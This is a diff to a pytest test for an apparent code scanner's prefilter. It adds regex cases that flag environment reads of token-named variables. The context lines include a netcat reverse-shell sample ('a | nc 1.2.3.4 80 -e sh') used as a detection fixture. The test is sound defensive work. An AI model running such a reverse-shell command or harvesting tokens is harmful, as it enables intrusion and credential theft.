@@ -287,6 +287,8 @@ def test_ordinary_training_script_is_clean_and_mostly_prefiltered(tmp_path: Path
     ("^nc ", b'"a | nc 1.2.3.4 80 -e sh"', True),
     ("^nc ", b"async def f(): pass", False),
     ("exec(", b"exec \\\n  (x)", True),
+    ("re:(?i)getenv\\([^)]*token", b'os.getenv( "HF_Token" )', True),
+    ("re:(?i)getenv\\([^)]*token", b'os.getenv("RANK") # token', False),
 ])
 def test_prefilter_needle_forms(needle: str, source: bytes, expected: bool) -> None:
     assert sr.Prefilter([[needle]]).matches(sr._Text(source)) is expected
